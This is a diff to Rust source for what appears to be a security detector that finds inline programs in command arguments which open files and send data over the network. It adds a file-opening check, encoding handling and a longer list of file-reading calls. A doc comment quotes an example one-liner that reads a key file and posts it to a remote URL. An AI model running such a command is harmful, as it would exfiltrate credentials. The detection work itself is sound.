@@ -1,5 +1,5 @@
-//! Programs in an argument that read a file or the environment and talk to another machine:
-//! `python3 -c "urlopen('https://…', data=open('key').read())"`.
+//! Programs in an argument that open files, and those that read a file or the environment and talk to
+//! another machine: `python3 -c "urlopen('https://…', data=open('key').read())"`.
 //!
 //! As with [`crate::code`], no language is parsed. A program that names a call of the network is
 //! taken to send what it names: each literal that is a path, and the environment where all of it is
@@ -75,6 +75,14 @@ const MOST: usize = 64;
 
 /// Where a program sends to that names no address.
 const NOWHERE: &str = "https://unknown.invalid/";
+
+/// Files that a program opens, as far as literals tell: each path that stands in a program which
+/// names a call that opens files. Linear in its size.
+pub(crate) fn opened(code: &str, home: Option<&Path>) -> Vec<PathBuf> {
+    let tokens = tokens(code, false);
+    let opens = |token: &Token<'_>| matches!(token, Token::Name(name) if OPENING.contains(name));
+    if tokens.iter().any(opens) { paths(&tokens, home) } else { Vec::new() }
+}
 
 /// The commands that send what the program sends. Linear in its size.
 pub(crate) fn sent(code: &str, home: Option<&Path>) -> Vec<What> {
@@ -153,8 +161,9 @@ fn paths(tokens: &[Token<'_>], home: Option<&Path>) -> Vec<PathBuf> {
     };
     let texts = tokens.iter().enumerate().filter_map(|(at, token)| match token {
         Token::Text(text) => {
-            // Not how it is opened: `rb`, `<`.
-            let is_way = text.bytes().all(|byte| b"rwabt+<>".contains(&byte));
+            // Not how it is opened: `rb`, `<`, `utf8`.
+            let is_way = text.bytes().all(|byte| b"rwabt+<>".contains(&byte))
+                || ENCODINGS.iter().any(|name| name.eq_ignore_ascii_case(text));
             let opened = opened(at) && !is_way && !text.contains("://");
             of(text).or_else(|| opened.then(|| PathBuf::from(text)))
         }
@@ -166,17 +175,31 @@ fn paths(tokens: &[Token<'_>], home: Option<&Path>) -> Vec<PathBuf> {
 /// So many names and signs may stand between such a call and its argument.
 const NEAR: usize = 8;
 
+/// How the bytes of a file become a text, as a literal beside its name.
+const ENCODINGS: [&str; 7] = ["ascii", "base64", "binary", "hex", "latin1", "utf-8", "utf8"];
+
 /// Calls of which an argument names a file.
-const OPENING: [&str; 9] = [
+const OPENING: [&str; 20] = [
     "Path",
+    "copy",
+    "copy2",
+    "copyFile",
+    "copyFileSync",
+    "copyfile",
+    "copytree",
     "createReadStream",
     "file_get_contents",
     "fopen",
+    "getline",
     "open",
     "read",
     "readFile",
     "readFileSync",
+    "read_bytes",
     "read_text",
+    "readfile",
+    "readlines",
+    "sysopen",
 ];
 
 /// Whether all of the environment is meant, not one variable of it.
